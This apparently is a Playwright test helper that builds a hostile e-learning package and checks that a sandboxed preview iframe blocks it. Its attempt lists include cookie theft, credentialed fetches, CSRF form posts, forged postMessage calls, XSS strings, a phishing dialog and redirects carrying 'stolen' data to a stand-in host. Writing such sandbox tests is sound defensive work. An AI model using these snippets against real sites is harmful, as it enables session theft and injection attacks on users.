import { strToU8 } from 'fflate';
import type { Page } from '@playwright/test';

/** What a script tries, and what it gets: words of its own, or the name of an error. */
interface Attempt {
	tries: string;
	/** Runs in the frame; `site` is the site's origin, and `state` where the page around it keeps the state. */
	code: string;
	gets: string;
}

/** Waits for an element that loads something, and says whether it did. */
const loads = (make: string) => `new Promise((done) => { const it = ${make}; it.onload = () => done('loaded'); it.onerror = () => done('not loaded'); document.body.append(it); setTimeout(() => done('nothing'), 2000); })`;
const element = (name: string, fields: string) => `Object.assign(document.createElement('${name}'), ${fields})`;
/** Posts a form with a cookie's rights, and waits whether the browser stops it. */
const posts = (path: string, target: string) =>
	`new Promise((done) => { document.addEventListener('securitypolicyviolation', (event) => done('stopped by ' + event.effectiveDirective), { once: true }); const form = ${element('form', `{ method: 'post', action: site + '${path}', target: '${target}' }`)}; document.body.append(form); form.submit(); setTimeout(() => done('nothing'), 1000); })`;

/** What a package's script tries while it stays where it is. */
export const ATTEMPTS: Attempt[] = [
	{ tries: 'read the cookies', code: 'document.cookie', gets: 'SecurityError' },
	{ tries: 'set a cookie', code: "(document.cookie = 'session=x')", gets: 'SecurityError' },
	{ tries: 'be of the site by document.domain', code: '(document.domain = new URL(site).hostname)', gets: 'SecurityError' },
	{ tries: 'read the page around it', code: 'parent.document.body.innerHTML', gets: 'SecurityError' },
	{ tries: "read that page's address", code: 'parent.location.href', gets: 'SecurityError' },
	{ tries: 'read who led here', code: "document.referrer || 'nothing'", gets: 'nothing' },
	{ tries: 'lead the whole window away', code: "(top.location = site + '/sign-out')", gets: 'SecurityError' },
	{ tries: 'lead it away by a link', code: `(${element('a', "{ href: site + '/sign-out', target: '_top' }")}.click(), 'nothing')`, gets: 'nothing' },
	{ tries: 'open a window', code: "String(window.open(site + '/'))", gets: 'null' },
	{ tries: 'fetch a page with the session', code: "fetch(site + '/packages', { credentials: 'include' })", gets: 'TypeError' },
	{ tries: 'fetch a page without reading it', code: "fetch(site + '/packages', { credentials: 'include', mode: 'no-cors' })", gets: 'TypeError' },
	{ tries: 'keep a state by fetch', code: "fetch(state, { method: 'POST', body: '{}', credentials: 'include', mode: 'no-cors' })", gets: 'TypeError' },
	{ tries: 'ask by XMLHttpRequest', code: "(() => { const request = new XMLHttpRequest(); request.open('GET', site + '/', false); request.withCredentials = true; request.send(); return request.responseText; })()", gets: 'NetworkError' },
	{ tries: 'send a beacon', code: "new Promise((done) => { document.addEventListener('securitypolicyviolation', (event) => done('stopped by ' + event.effectiveDirective), { once: true }); navigator.sendBeacon(state, '{}'); setTimeout(() => done('sent'), 1000); })", gets: 'stopped by connect-src' },
	{ tries: 'open a web socket', code: "new Promise((done) => { const it = new WebSocket(site.replace('http', 'ws')); it.onopen = () => done('open'); it.onerror = () => done('not open'); })", gets: 'not open' },
	{ tries: 'listen to a stream of events', code: "new Promise((done) => { const it = new EventSource(site + '/', { withCredentials: true }); it.onopen = () => done('open'); it.onerror = () => done('not open'); })", gets: 'not open' },
	{ tries: 'load a picture with the session', code: loads(element('img', "{ src: site + '/packages?beacon' }")), gets: 'not loaded' },
	{ tries: 'load a picture from elsewhere, with what it knows in the address', code: loads(element('img', "{ src: 'http://127.0.0.1:9/?stolen' }")), gets: 'not loaded' },
	{ tries: "load a file of another preview's address", code: loads(element('img', "{ src: site + '/preview/AAAAAAAAAAAAAAAAAAAAAA/x.png' }")), gets: 'not loaded' },
	{ tries: 'run a script of the site', code: loads(element('script', "{ src: site + '/sign-in' }")), gets: 'not loaded' },
	{ tries: 'use a stylesheet of the site', code: loads(element('link', "{ rel: 'stylesheet', href: site + '/favicon.svg' }")), gets: 'not loaded' },
	{ tries: 'show a page of the site in a frame of its own', code: `new Promise((done) => { document.addEventListener('securitypolicyviolation', (event) => done('stopped by ' + event.effectiveDirective), { once: true }); document.body.append(${element('iframe', "{ src: site + '/packages' }")}); setTimeout(() => done('shown'), 1000); })`, gets: 'stopped by frame-src' },
	{ tries: 'post the form that signs out', code: posts('/sign-out', '_self'), gets: 'stopped by form-action' },
	{ tries: 'post the form that opens the training', code: posts('/modules/managing-triggers?/start', '_self'), gets: 'stopped by form-action' },
	{ tries: 'post a form into the whole window', code: posts('/sign-out', '_top'), gets: 'nothing' },
	{ tries: 'keep something in localStorage', code: "localStorage.setItem('x', 'y')", gets: 'SecurityError' },
	{ tries: 'keep something in sessionStorage', code: "sessionStorage.setItem('x', 'y')", gets: 'SecurityError' },
	{ tries: 'open a database', code: "new Promise((done, fail) => { const asked = indexedDB.open('x'); asked.onsuccess = () => done('open'); asked.onerror = () => fail(asked.error); })", gets: 'SecurityError' },
	{ tries: 'open a cache', code: "caches.open('x').then(() => 'open')", gets: 'SecurityError' },
	{ tries: 'register a service worker', code: "navigator.serviceWorker.register(location.pathname).then(() => 'registered')", gets: 'SecurityError' },
	{ tries: 'start a worker', code: "new Worker(URL.createObjectURL(new Blob(['1']))) && new Promise((done) => { document.addEventListener('securitypolicyviolation', (event) => done('stopped by ' + event.effectiveDirective), { once: true }); setTimeout(() => done('started'), 1000); new Worker(URL.createObjectURL(new Blob(['1']))); })", gets: 'stopped by worker-src' },
	{ tries: 'run text as code', code: "(0, eval)('1')", gets: 'EvalError' },
	{ tries: 'stop everybody with a dialog', code: "String(confirm('Type your password'))", gets: 'false' },
	{ tries: 'send a file to the disk', code: `(${element('a', "{ href: 'data:text/plain,x', download: 'x.exe' }")}.click(), 'nothing')`, gets: 'nothing' },
	{ tries: 'speak as the learning system without its port', code: "(parent.postMessage({ kind: 'kept', saved: { 'cmi.suspend_data': 'forged' } }, '*'), 'sent')", gets: 'sent' },
	{
		tries: 'speak as another window does',
		code: `(document.body.append(${element('iframe', "{ srcdoc: \"<script>top.postMessage({ kind: 'launched', saved: {}, values: { forged: 'by a frame inside' } }, '*', [new MessageChannel().port2])</\" + 'script>' }")}), new Promise((done) => setTimeout(done, 500, 'sent')))`,
		gets: 'sent'
	},
	{ tries: 'start anew with values that are no text', code: "(parent.postMessage({ kind: 'launched', saved: {}, values: { x: { html: '<img src=x onerror=alert(1)>' } } }, '*', [new MessageChannel().port2]), 'sent')", gets: 'sent' },
	{
		tries: 'keep 10 MB, by a port of its own',
		code: "(() => { const { port1, port2 } = new MessageChannel(); window.forged = port1; parent.postMessage({ kind: 'launched', saved: {}, values: {} }, '*', [port2]); port1.postMessage({ kind: 'kept', saved: { 'cmi.suspend_data': 'x'.repeat(10_000_000) } }); return 'sent'; })()",
		gets: 'sent'
	},
	{ tries: 'have markup in the log', code: "(window.forged.postMessage({ kind: 'call', call: { name: 'LMSSetValue', arguments: ['<img src=x onerror=alert(1)>', '<script>alert(1)</script>'], answer: 'true' } }), 'sent')", gets: 'sent' }
];

/** What it tries last, each of which takes it away from where it is: to the site, or to another, with what it knows in the address. */
export const DEPARTURES: { tries: string; code: string }[] = [
	{ tries: 'go to a page of the site itself', code: "location.href = site + '/sign-out'" },
	{ tries: 'go to a page of the site itself, by a tag', code: `document.head.append(${element('meta', "{ httpEquiv: 'refresh', content: '0;url=' + site + '/packages' }")})` },
	{ tries: 'go elsewhere, with what it knows in the address', code: "location.href = 'http://127.0.0.1:9/?stolen'" }
];

/** A package whose script tries everything and writes what it got into its own page. */
export function hostilePackage(): Record<string, Uint8Array> {
	const run = ATTEMPTS.map(({ tries, code }) => `[${JSON.stringify(tries)}, async () => ${code}]`).join(',\n');
	return {
		'index.html': strToU8('<!doctype html><html lang="en"><head><title>A hostile package</title><script src="hostile.js" defer></script></head><body><h1>A hostile package</h1><pre id="got"></pre></body></html>'),
		'hostile.js': strToU8(`
			const { origin, pathname } = new URL(location.href);
			const site = new URL(document.URL).origin;
			const state = site + '/packages/working-alongside-peers/1/preview/state';
			const attempts = [${run}];
			(async () => {
				const got = [];
				for (const [tries, attempt] of attempts) {
					try { got.push([tries, String(await attempt())]); } catch (error) { got.push([tries, error.name]); }
				}
				document.getElementById('got').textContent = JSON.stringify(got);
			})();
		`)
	};
}

/** What the hostile package in the preview got, once it has tried everything. */
export async function got(page: Page): Promise<[string, string][]> {
	const result = page.frameLocator('iframe').locator('#got');
	await result.filter({ hasText: '[' }).waitFor();
	return JSON.parse(await result.innerText()) as [string, string][];
}
